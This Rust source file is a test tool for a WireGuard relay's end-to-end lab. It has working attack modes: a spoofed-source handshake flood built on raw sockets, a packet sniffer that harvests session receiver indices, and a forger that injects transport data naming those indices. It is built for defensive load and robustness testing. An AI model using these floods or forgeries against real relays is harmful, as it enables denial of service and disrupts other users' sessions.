//! Attacks on the relay for the e2e tests. Run as root, inside the lab's namespaces only: it
//! sends to the relay address it is given and nowhere else, and every mode stops by itself.
//!
//! - `flood`: WireGuard handshake initiations of random bytes (no valid mac1) from random
//!   spoofed sources, paced (`--rate N`) or as fast as one core sends (`--flat-out`).
//! - `sniff`: watches a namespace's interfaces for transport data going to the relay and
//!   prints the receiver indices it saw.
//! - `hijack`: sniffs live receiver indices (or takes them with `--index`), then sends forged
//!   transport data naming them from this host's own address.
//! - `drain`: not an attack but the flood tests' yardstick: the least a receiver can do with a
//!   flood, read it with `recvmmsg` and drop it.
//!
//! Each prints one line of `key=value` figures on stdout.

use std::fs::File;
use std::io::Read;
use std::net::{IpAddr, Ipv6Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail, ensure};
use clap::{Args, Parser, Subcommand};
use socket2::{Domain, Protocol, Socket, Type};

#[derive(Parser)]
#[command(about = "Attacks on a wpex relay, for the lab's namespaces only")]
struct Cli {
    #[command(subcommand)]
    mode: Mode,
}

#[derive(Subcommand)]
enum Mode {
    /// Junk handshake initiations from random spoofed sources.
    Flood(FloodArgs),
    /// Prints receiver indices of transport data seen going to the relay.
    Sniff(SniffArgs),
    /// Forged transport data naming live receiver indices, from this host's own address.
    Hijack(HijackArgs),
    /// Reads and drops datagrams, as a relay must at least: the yardstick of its CPU.
    Drain(DrainArgs),
}

#[derive(Args)]
struct FloodArgs {
    /// The relay, e.g. `198.51.100.1:40000` or `[2001:db8::1]:40000`.
    #[arg(long)]
    relay: SocketAddr,
    /// Datagrams per second; without it, as fast as this core can send.
    #[arg(
        long,
        conflicts_with = "flat_out",
        required_unless_present = "flat_out"
    )]
    rate: Option<u32>,
    /// Send as fast as possible (one thread, batched).
    #[arg(long)]
    flat_out: bool,
    /// How long to send, at most 120 s.
    #[arg(long, value_parser = clap::value_parser!(u64).range(1..=120))]
    seconds: u64,
    /// Zero mac2, as in a real first initiation (an attacker adapting to a relay that looks
    /// at mac2); otherwise mac2 is random like the rest.
    #[arg(long)]
    zero_mac2: bool,
    /// Spoofed sources are random addresses in this prefix of the relay's family: IPv4 /8 or
    /// longer, IPv6 /64 or longer (an attacker's own /64 needs no spoofing at all).
    #[arg(long, default_value = "100.64.0.0/10")]
    spoof: String,
}

#[derive(Args)]
struct SniffArgs {
    /// The relay, e.g. 198.51.100.1:40000.
    #[arg(long)]
    relay: SocketAddrV4,
    /// The named network namespace (`ip netns`) to sniff in; default the current one.
    #[arg(long)]
    sniff_netns: Option<String>,
    /// Interface to sniff on; default every interface of that namespace.
    #[arg(long)]
    sniff_iface: Option<String>,
    /// Stop after this many distinct receiver indices.
    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u32).range(1..=16))]
    indices: u32,
    /// Give up after this many seconds without enough indices.
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u64).range(1..=120))]
    timeout: u64,
}

#[derive(Args)]
struct HijackArgs {
    #[command(flatten)]
    sniff: SniffArgs,
    /// Use this receiver index (hex with 0x, or decimal) instead of sniffing; repeatable.
    #[arg(long = "index", value_parser = parse_index)]
    known: Vec<u32>,
    /// Forged datagrams per second.
    #[arg(long, default_value_t = 100, value_parser = clap::value_parser!(u32).range(1..=100_000))]
    rate: u32,
    /// How long to send, at most 120 s.
    #[arg(long, value_parser = clap::value_parser!(u64).range(1..=120))]
    seconds: u64,
    /// Size of each forged datagram (at least the 32 bytes of an empty transport message).
    #[arg(long, default_value_t = 128, value_parser = clap::value_parser!(u16).range(32..=1400))]
    size: u16,
}

#[derive(Args)]
struct DrainArgs {
    /// Where to receive, e.g. 198.51.100.1:40001.
    #[arg(long)]
    bind: SocketAddrV4,
    /// How long to receive, at most 120 s.
    #[arg(long, value_parser = clap::value_parser!(u64).range(1..=120))]
    seconds: u64,
}

fn parse_index(s: &str) -> Result<u32, String> {
    match s.strip_prefix("0x") {
        Some(hex) => u32::from_str_radix(hex, 16),
        None => s.parse(),
    }
    .map_err(|e| format!("{s:?}: {e}"))
}

/// wyrand: fast enough that a debug build still fills packets faster than the kernel sends.
struct Rng(u64);

impl Rng {
    fn from_os() -> Result<Self> {
        let mut seed = [0u8; 8];
        File::open("/dev/urandom")
            .and_then(|mut f| f.read_exact(&mut seed))
            .context("reading /dev/urandom")?;
        Ok(Self(u64::from_le_bytes(seed)))
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0xa076_1d64_78bd_642f);
        let t = u128::from(self.0) * u128::from(self.0 ^ 0xe703_7ed1_a0b4_28db);
        ((t >> 64) as u64) ^ (t as u64)
    }

    fn fill(&mut self, buf: &mut [u8]) {
        for chunk in buf.chunks_mut(8) {
            let r = self.next().to_le_bytes();
            chunk.copy_from_slice(&r[..chunk.len()]);
        }
    }
}

fn main() -> Result<()> {
    match Cli::parse().mode {
        Mode::Flood(args) => flood(&args),
        Mode::Sniff(args) => {
            let (indices, frames) = sniff(&args)?;
            println!("indices={} frames={frames}", hex_list(&indices));
            Ok(())
        }
        Mode::Hijack(args) => hijack(&args),
        Mode::Drain(args) => drain(&args),
    }
}

fn hex_list(indices: &[u32]) -> String {
    let hex: Vec<String> = indices.iter().map(|i| format!("{i:#010x}")).collect();
    hex.join(",")
}

const INITIATION: usize = 148;
const IP_UDP_HEADERS: usize = 28;
const PACKET: usize = IP_UDP_HEADERS + INITIATION;
const IP6_UDP_HEADERS: usize = 48;
/// The larger of the two families' packets: a flood's buffers hold either.
const PACKET6: usize = IP6_UDP_HEADERS + INITIATION;
/// Datagrams per sendmmsg call.
const BATCH: usize = 64;

/// Where a flood's sources come from: a network and the mask of its host part.
#[derive(Clone, Copy)]
enum Spoof {
    V4(u32, u32),
    V6(u128, u128),
}

/// Parses an IPv4 prefix (/8 to /32) or an IPv6 one (/64 to /128).
fn parse_spoof(s: &str) -> Result<Spoof> {
    let (ip, len) = s.split_once('/').context("prefix needs /len")?;
    let ip: IpAddr = ip
        .parse()
        .with_context(|| format!("prefix address {ip:?}"))?;
    let len: u32 = len
        .parse()
        .with_context(|| format!("prefix length {len:?}"))?;
    match ip {
        IpAddr::V4(ip) => {
            ensure!((8..=32).contains(&len), "prefix length {len} not in 8..=32");
            let host_mask = u32::MAX.checked_shr(len).unwrap_or(0);
            Ok(Spoof::V4(u32::from(ip) & !host_mask, host_mask))
        }
        IpAddr::V6(ip) => {
            ensure!(
                (64..=128).contains(&len),
                "IPv6 prefix length {len} not in 64..=128"
            );
            let host_mask = u128::MAX.checked_shr(len).unwrap_or(0);
            Ok(Spoof::V6(u128::from(ip) & !host_mask, host_mask))
        }
    }
}

/// The distinct host parts of the sources sent from, one bit each (2 MiB for a /8).
struct Seen {
    bits: Vec<u64>,
    distinct: u64,
}

impl Seen {
    fn new(host_mask: u32) -> Self {
        let hosts = u64::from(host_mask) + 1;
        Self {
            bits: vec![0; usize::try_from(hosts.div_ceil(64)).unwrap_or(0)],
            distinct: 0,
        }
    }

    fn insert(&mut self, host: u32) {
        let (word, bit) = ((host / 64) as usize, 1u64 << (host % 64));
        if let Some(w) = self.bits.get_mut(word)
            && *w & bit == 0
        {
            *w |= bit;
            self.distinct += 1;
        }
    }
}

/// An IP + UDP + junk initiation from a random source in `spoof` to the relay, of either
/// family; returns its length.
fn junk_packet(
    buf: &mut [u8; PACKET6],
    rng: &mut Rng,
    spoof: Spoof,
    relay: SocketAddr,
    zero_mac2: bool,
) -> usize {
    match (spoof, relay) {
        (Spoof::V4(net, mask), SocketAddr::V4(relay)) => {
            junk_initiation(&mut buf[..PACKET], rng, (net, mask), relay, zero_mac2);
            PACKET
        }
        (Spoof::V6(net, mask), SocketAddr::V6(relay)) => {
            let src = Ipv6Addr::from(
                net | (u128::from(rng.next()) << 64 | u128::from(rng.next())) & mask,
            );
            let sport = 1024 + (rng.next() % (65536 - 1024)) as u16;
            let udp_len = (8 + INITIATION) as u16;
            buf[..IP6_UDP_HEADERS].fill(0);
            buf[0] = 0x60;
            buf[4..6].copy_from_slice(&udp_len.to_be_bytes());
            buf[6] = libc::IPPROTO_UDP as u8;
            buf[7] = 64;
            buf[8..24].copy_from_slice(&src.octets());
            buf[24..40].copy_from_slice(&relay.ip().octets());
            buf[40..42].copy_from_slice(&sport.to_be_bytes());
            buf[42..44].copy_from_slice(&relay.port().to_be_bytes());
            buf[44..46].copy_from_slice(&udp_len.to_be_bytes());
            junk_message(&mut buf[IP6_UDP_HEADERS..], rng, zero_mac2);
            // Over IPv6 the UDP checksum is mandatory: the receiver drops a datagram without.
            let sum = udp6_checksum(&buf[8..24], &buf[24..40], &buf[40..PACKET6]);
            buf[46..48].copy_from_slice(&sum.to_be_bytes());
            PACKET6
        }
        // `flood` checks the families match before it builds anything.
        _ => 0,
    }
}

/// The UDP checksum over IPv6 (RFC 8200, 8.1): the pseudo-header and the datagram, whose
/// checksum field is zero.
fn udp6_checksum(src: &[u8], dst: &[u8], datagram: &[u8]) -> u16 {
    let words = |b: &[u8]| -> u64 {
        b.chunks(2)
            .map(|c| u64::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
            .sum()
    };
    let len = datagram.len() as u64;
    let mut sum = words(src) + words(dst) + (len >> 16) + (len & 0xffff) + 17 + words(datagram);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    match !(sum as u16) {
        0 => 0xffff,
        s => s,
    }
}

/// An IPv4 + UDP + junk initiation, from a random source in the prefix to the relay.
fn junk_initiation(
    buf: &mut [u8],
    rng: &mut Rng,
    (net, host_mask): (u32, u32),
    relay: SocketAddrV4,
    zero_mac2: bool,
) {
    let src = net | (rng.next() as u32 & host_mask);
    let sport = 1024 + (rng.next() % (65536 - 1024)) as u16;
    // IPv4: the kernel fills in the checksum and, since it is 0, the id.
    buf[..20].fill(0);
    buf[0] = 0x45;
    buf[2..4].copy_from_slice(&(PACKET as u16).to_be_bytes());
    buf[8] = 64;
    buf[9] = libc::IPPROTO_UDP as u8;
    buf[12..16].copy_from_slice(&src.to_be_bytes());
    buf[16..20].copy_from_slice(&relay.ip().octets());
    // UDP, checksum 0 (none, legal over IPv4).
    buf[20..22].copy_from_slice(&sport.to_be_bytes());
    buf[22..24].copy_from_slice(&relay.port().to_be_bytes());
    buf[24..26].copy_from_slice(&((8 + INITIATION) as u16).to_be_bytes());
    buf[26..28].fill(0);
    junk_message(&mut buf[IP_UDP_HEADERS..PACKET], rng, zero_mac2);
}

/// A handshake initiation of random bytes, its mac2 zeroed if asked, into `msg` (148 bytes).
fn junk_message(msg: &mut [u8], rng: &mut Rng, zero_mac2: bool) {
    rng.fill(msg);
    msg[..4].copy_from_slice(&[1, 0, 0, 0]);
    if zero_mac2 {
        msg[132..148].fill(0);
    }
}

/// Sends whole IP packets to `to` with one sendmmsg; returns how many went out.
fn send_batch(
    socket: &Socket,
    packets: &mut [[u8; PACKET6]],
    len: usize,
    to: IpAddr,
) -> std::io::Result<usize> {
    // A raw socket takes no port.
    let dst = socket2::SockAddr::from(SocketAddr::new(to, 0));
    let mut iovs: Vec<libc::iovec> = packets
        .iter_mut()
        .map(|p| libc::iovec {
            iov_base: p.as_mut_ptr().cast(),
            iov_len: len,
        })
        .collect();
    let mut msgs: Vec<libc::mmsghdr> = iovs
        .iter_mut()
        .map(|iov| {
            // SAFETY: an all-zero mmsghdr is valid; its pointers are set just below.
            let mut m: libc::mmsghdr = unsafe { std::mem::zeroed() };
            m.msg_hdr.msg_name = dst.as_ptr().cast_mut().cast();
            m.msg_hdr.msg_namelen = dst.len();
            m.msg_hdr.msg_iov = iov;
            m.msg_hdr.msg_iovlen = 1;
            m
        })
        .collect();
    // SAFETY: every header points at `dst`, an iovec and a packet, all alive until it returns.
    let done = unsafe {
        libc::sendmmsg(
            socket.as_raw_fd(),
            msgs.as_mut_ptr(),
            msgs.len() as libc::c_uint,
            0,
        )
    };
    usize::try_from(done).map_err(|_| std::io::Error::last_os_error())
}

fn flood(args: &FloodArgs) -> Result<()> {
    let spoof = parse_spoof(&args.spoof)?;
    ensure!(
        matches!(
            (spoof, args.relay),
            (Spoof::V4(..), SocketAddr::V4(_)) | (Spoof::V6(..), SocketAddr::V6(_))
        ),
        "--spoof {} is not of --relay {}'s family",
        args.spoof,
        args.relay
    );
    // IPPROTO_RAW implies IP_HDRINCL (both families): we write the IP header, spoofed source
    // included.
    let socket = Socket::new(
        Domain::for_address(args.relay),
        Type::RAW,
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )
    .context("raw socket (needs root)")?;
    let _ = socket.set_send_buffer_size(4 << 20);
    let mut rng = Rng::from_os()?;
    let mut bufs = vec![[0u8; PACKET6]; BATCH];
    // IPv4 only: the addresses of a /64 are too many to count, and drawn at random, all distinct.
    let mut seen = match spoof {
        Spoof::V4(_, mask) => Some(Seen::new(mask)),
        Spoof::V6(..) => None,
    };

    let duration = Duration::from_secs(args.seconds);
    let start = Instant::now();
    let (mut sent, mut errors) = (0u64, 0u64);
    loop {
        let elapsed = start.elapsed();
        if elapsed >= duration {
            break;
        }
        let n = match args.rate {
            None => BATCH,
            Some(rate) => {
                // Paced: whatever is due by now, so bursts stay within one batch.
                let due = (f64::from(rate) * elapsed.as_secs_f64()) as u64 + 1;
                if due <= sent {
                    std::thread::sleep(Duration::from_micros(500));
                    continue;
                }
                (due - sent).min(BATCH as u64) as usize
            }
        };
        let mut len = 0;
        for buf in &mut bufs[..n] {
            len = junk_packet(buf, &mut rng, spoof, args.relay, args.zero_mac2);
        }
        match send_batch(&socket, &mut bufs[..n], len, args.relay.ip()) {
            Ok(done) => {
                sent += done as u64;
                if let (Some(seen), Spoof::V4(_, mask)) = (seen.as_mut(), spoof) {
                    for buf in &bufs[..done] {
                        let src = u32::from_be_bytes([buf[12], buf[13], buf[14], buf[15]]);
                        seen.insert(src & mask);
                    }
                }
            }
            Err(e)
                if matches!(
                    e.raw_os_error(),
                    Some(libc::ENOBUFS | libc::EAGAIN | libc::EINTR)
                ) =>
            {
                errors += 1;
                std::thread::yield_now();
            }
            Err(e) => return Err(e).context("sendmmsg"),
        }
    }
    let seconds = start.elapsed().as_secs_f64();
    let distinct = seen.map_or_else(|| "n/a".to_owned(), |s| s.distinct.to_string());
    println!(
        "sent={sent} seconds={seconds:.3} rate={:.0} send_errors={errors} distinct_sources={distinct}",
        sent as f64 / seconds,
    );
    Ok(())
}

/// Runs `f` inside the named network namespace, then returns to this one. Sockets made there
/// stay there. Only for a single-threaded process: setns switches the calling thread.
fn in_netns<T>(name: Option<&str>, f: impl FnOnce() -> Result<T>) -> Result<T> {
    let Some(name) = name else { return f() };
    let home = File::open("/proc/self/ns/net").context("opening this namespace")?;
    let path = format!("/run/netns/{name}");
    let target = File::open(&path).with_context(|| format!("opening {path}"))?;
    // SAFETY: setns on valid namespace file descriptors.
    if unsafe { libc::setns(target.as_raw_fd(), libc::CLONE_NEWNET) } != 0 {
        return Err(std::io::Error::last_os_error()).with_context(|| format!("setns {path}"));
    }
    let out = f();
    // SAFETY: as above.
    if unsafe { libc::setns(home.as_raw_fd(), libc::CLONE_NEWNET) } != 0 {
        return Err(std::io::Error::last_os_error()).context("setns back home");
    }
    out
}

/// A packet socket seeing the frames of every interface, or of `iface`, without link headers.
/// It takes every protocol: frames crossing a bridge port reach only such taps.
fn packet_socket(iface: Option<&str>) -> Result<Socket> {
    let all = (libc::ETH_P_ALL as u16).to_be();
    let socket = Socket::new(
        Domain::PACKET,
        Type::DGRAM,
        Some(Protocol::from(i32::from(all))),
    )
    .context("packet socket (needs root)")?;
    if let Some(iface) = iface {
        let name = std::ffi::CString::new(iface).context("interface name")?;
        // SAFETY: a valid C string.
        let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
        ensure!(index != 0, "no interface {iface}");
        // SAFETY: an all-zero sockaddr_ll is valid; bind reads exactly its size.
        let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        addr.sll_family = libc::AF_PACKET as u16;
        addr.sll_protocol = all;
        addr.sll_ifindex = index as i32;
        // SAFETY: `addr` is a sockaddr_ll of the length given.
        let rc = unsafe {
            libc::bind(
                socket.as_raw_fd(),
                (&raw const addr).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
            )
        };
        if rc != 0 {
            return Err(std::io::Error::last_os_error()).context("binding to the interface");
        }
    }
    socket.set_read_timeout(Some(Duration::from_millis(200)))?;
    Ok(socket)
}

/// The receiver index of a WireGuard transport message to `relay` in an IPv4 packet (other
/// protocols fail the version check).
fn transport_index(packet: &[u8], relay: SocketAddrV4) -> Option<u32> {
    let ihl = usize::from(packet.first()? & 0x0f) * 4;
    if packet.first()? >> 4 != 4 || *packet.get(9)? != libc::IPPROTO_UDP as u8 {
        return None;
    }
    if packet.get(16..20)? != relay.ip().octets()
        || packet.get(ihl + 2..ihl + 4)? != relay.port().to_be_bytes()
    {
        return None;
    }
    let msg = packet.get(ihl + 8..)?;
    (msg.len() >= 32 && msg[..4] == [4, 0, 0, 0])
        .then(|| u32::from_le_bytes([msg[4], msg[5], msg[6], msg[7]]))
}

/// Distinct receiver indices seen going to the relay, and how many frames were looked at.
fn sniff(args: &SniffArgs) -> Result<(Vec<u32>, u64)> {
    let socket = in_netns(args.sniff_netns.as_deref(), || {
        packet_socket(args.sniff_iface.as_deref())
    })?;
    let deadline = Instant::now() + Duration::from_secs(args.timeout);
    let mut buf = [0u8; 2048];
    let (mut indices, mut frames) = (Vec::new(), 0u64);
    while indices.len() < args.indices as usize {
        ensure!(
            Instant::now() < deadline,
            "saw {} of {} receiver indices in {} s ({frames} frames)",
            indices.len(),
            args.indices,
            args.timeout
        );
        let n = match (&socket).read(&mut buf) {
            Ok(n) => n,
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                continue;
            }
            Err(e) => return Err(e).context("reading the packet socket"),
        };
        frames += 1;
        if let Some(index) = transport_index(&buf[..n], args.relay)
            && !indices.contains(&index)
        {
            indices.push(index);
        }
    }
    Ok((indices, frames))
}

fn hijack(args: &HijackArgs) -> Result<()> {
    let indices = if args.known.is_empty() {
        sniff(&args.sniff)?.0
    } else {
        args.known.clone()
    };
    let socket = UdpSocket::bind("0.0.0.0:0").context("UDP socket")?;
    let mut rng = Rng::from_os()?;
    let mut msg = vec![0u8; usize::from(args.size)];
    let duration = Duration::from_secs(args.seconds);
    let start = Instant::now();
    let (mut attempts, mut errors) = (0u64, 0u64);
    while start.elapsed() < duration {
        let due = (f64::from(args.rate) * start.elapsed().as_secs_f64()) as u64 + 1;
        if due <= attempts {
            std::thread::sleep(Duration::from_millis(1));
            continue;
        }
        let Some(&index) = indices.get((attempts % indices.len() as u64) as usize) else {
            bail!("no receiver index to forge");
        };
        attempts += 1;
        // Type 4, the live index, then a random counter and "ciphertext".
        rng.fill(&mut msg);
        msg[..4].copy_from_slice(&[4, 0, 0, 0]);
        msg[4..8].copy_from_slice(&index.to_le_bytes());
        // A send refused after an ICMP error is counted, not fatal.
        if socket.send_to(&msg, args.sniff.relay).is_err() {
            errors += 1;
        }
    }
    println!(
        "indices={} sent={} send_errors={errors} source_port={}",
        hex_list(&indices),
        attempts - errors,
        socket.local_addr()?.port()
    );
    Ok(())
}

/// Datagrams per `recvmmsg`, as the relay reads them (`quinn_udp::BATCH_SIZE` on Linux).
const DRAIN_BATCH: usize = 32;
/// Room for a datagram of the flood (148 bytes) or anything else up to the MTU.
const DRAIN_SLOT: usize = 2048;

/// This process's CPU time (user + system).
fn own_cpu() -> Result<Duration> {
    // SAFETY: an all-zero rusage is valid, and getrusage only writes it.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: `usage` is a valid rusage to write.
    if unsafe { libc::getrusage(libc::RUSAGE_SELF, &raw mut usage) } != 0 {
        return Err(std::io::Error::last_os_error()).context("getrusage");
    }
    let time = |t: libc::timeval| {
        Duration::from_secs(t.tv_sec.unsigned_abs())
            + Duration::from_micros(t.tv_usec.unsigned_abs())
    };
    Ok(time(usage.ru_utime) + time(usage.ru_stime))
}

/// Reads datagrams at `args.bind` for `args.seconds` the way the relay does at the least: one
/// socket with its 4 MiB buffer, batches of its size, sources kept, and nothing else. Blocking
/// with MSG_WAITFORONE: one wake-up per batch, as few as a receiver can have.
fn drain(args: &DrainArgs) -> Result<()> {
    let socket =
        Socket::new(Domain::IPV4, Type::DGRAM, Some(Protocol::UDP)).context("UDP socket")?;
    // As the relay asks; the kernel may cap it, for both alike.
    let _ = socket.set_recv_buffer_size(4 << 20);
    // Wakes up now and then to see the time, so that it stops with or without a flood.
    socket.set_read_timeout(Some(Duration::from_millis(100)))?;
    socket
        .bind(&args.bind.into())
        .with_context(|| format!("binding {}", args.bind))?;
    let mut bufs = vec![[0u8; DRAIN_SLOT]; DRAIN_BATCH];
    // SAFETY: an all-zero sockaddr_in is valid.
    let mut sources: Vec<libc::sockaddr_in> = vec![unsafe { std::mem::zeroed() }; DRAIN_BATCH];
    let mut iovs: Vec<libc::iovec> = bufs
        .iter_mut()
        .map(|b| libc::iovec {
            iov_base: b.as_mut_ptr().cast(),
            iov_len: DRAIN_SLOT,
        })
        .collect();
    let mut msgs: Vec<libc::mmsghdr> = iovs
        .iter_mut()
        .zip(&mut sources)
        .map(|(iov, src)| {
            // SAFETY: an all-zero mmsghdr is valid; its pointers are set just below.
            let mut m: libc::mmsghdr = unsafe { std::mem::zeroed() };
            m.msg_hdr.msg_name = std::ptr::from_mut(src).cast();
            m.msg_hdr.msg_iov = iov;
            m.msg_hdr.msg_iovlen = 1;
            m
        })
        .collect();
    let cpu0 = own_cpu()?;
    let (start, duration) = (Instant::now(), Duration::from_secs(args.seconds));
    let (mut received, mut calls) = (0u64, 0u64);
    while start.elapsed() < duration {
        for m in &mut msgs {
            m.msg_hdr.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
        }
        // SAFETY: every header points at a live source address and iovec, and each iovec at a
        // buffer of its length, all alive until it returns.
        let n = unsafe {
            libc::recvmmsg(
                socket.as_raw_fd(),
                msgs.as_mut_ptr(),
                DRAIN_BATCH as libc::c_uint,
                libc::MSG_WAITFORONE,
                std::ptr::null_mut(),
            )
        };
        calls += 1;
        match usize::try_from(n) {
            Ok(n) => received += n as u64,
            Err(_) => {
                let e = std::io::Error::last_os_error();
                if !matches!(
                    e.raw_os_error(),
                    Some(libc::EAGAIN | libc::EINTR | libc::ETIMEDOUT)
                ) {
                    return Err(e).context("recvmmsg");
                }
            }
        }
    }
    let cpu = own_cpu()?.saturating_sub(cpu0);
    println!(
        "received={received} seconds={:.3} calls={calls} cpu_ms={:.1}",
        start.elapsed().as_secs_f64(),
        cpu.as_secs_f64() * 1e3
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use std::net::Ipv4Addr;

    use super::*;

    #[test]
    fn junk_is_an_initiation_from_the_prefix() {
        let relay = SocketAddrV4::new(Ipv4Addr::new(198, 51, 100, 1), 40000);
        let Ok(Spoof::V4(net, mask)) = parse_spoof("198.18.0.0/15") else {
            panic!("an IPv4 prefix")
        };
        let prefix = (net, mask);
        let mut rng = Rng(1);
        let mut buf = [0u8; PACKET];
        for zero_mac2 in [false, true] {
            junk_initiation(&mut buf, &mut rng, prefix, relay, zero_mac2);
            let src = Ipv4Addr::from(<[u8; 4]>::try_from(&buf[12..16]).expect("4 bytes"));
            assert_eq!(src.octets()[0], 198);
            assert!(src.octets()[1] & 0xfe == 18, "{src}");
            assert_eq!(&buf[16..20], &[198, 51, 100, 1]);
            assert_eq!(&buf[22..24], &40000u16.to_be_bytes());
            let msg = &buf[IP_UDP_HEADERS..];
            assert_eq!(msg.len(), 148);
            assert_eq!(&msg[..4], &[1, 0, 0, 0]);
            assert_eq!(msg[132..].iter().all(|b| *b == 0), zero_mac2);
        }
    }

    #[test]
    fn ipv6_junk_comes_from_the_64_with_a_valid_checksum() {
        let relay: SocketAddr = "[2001:db8::1]:40000".parse().expect("valid");
        let spoof = parse_spoof("2001:db8:0:66::/64").expect("valid");
        let mut rng = Rng(7);
        let mut buf = [0u8; PACKET6];
        assert_eq!(junk_packet(&mut buf, &mut rng, spoof, relay, true), PACKET6);
        assert_eq!(&buf[8..16], &[0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0x66]);
        assert_eq!(buf[6], 17);
        // A receiver's check: the sum over the pseudo-header and the datagram, checksum
        // included, folds to all ones.
        let stored = u16::from_be_bytes([buf[46], buf[47]]);
        buf[46..48].fill(0);
        assert_eq!(udp6_checksum(&buf[8..24], &buf[24..40], &buf[40..]), stored);
        assert_ne!(stored, 0);
        assert!(buf[IP6_UDP_HEADERS + 132..].iter().all(|b| *b == 0));
        let v4 = parse_spoof("100.64.0.0/10").expect("valid");
        assert_eq!(
            junk_packet(&mut buf, &mut rng, v4, relay, true),
            0,
            "families differ"
        );
    }

    #[test]
    fn transport_index_only_for_data_to_the_relay() {
        let relay = SocketAddrV4::new(Ipv4Addr::new(198, 51, 100, 1), 40000);
        let mut p = vec![0u8; 28 + 32];
        p[0] = 0x45;
        p[9] = 17;
        p[16..20].copy_from_slice(&[198, 51, 100, 1]);
        p[22..24].copy_from_slice(&40000u16.to_be_bytes());
        p[28] = 4;
        p[32..36].copy_from_slice(&0xdead_beefu32.to_le_bytes());
        assert_eq!(transport_index(&p, relay), Some(0xdead_beef));
        let other = SocketAddrV4::new(Ipv4Addr::new(198, 51, 100, 1), 40001);
        assert_eq!(transport_index(&p, other), None);
        p[28] = 1;
        assert_eq!(transport_index(&p, relay), None);
        assert_eq!(transport_index(&p[..40], relay), None);
        assert_eq!(parse_index("0x0000002a"), Ok(42));
        assert_eq!(parse_index("42"), Ok(42));
        assert!(parse_index("0xzz").is_err());
    }
}
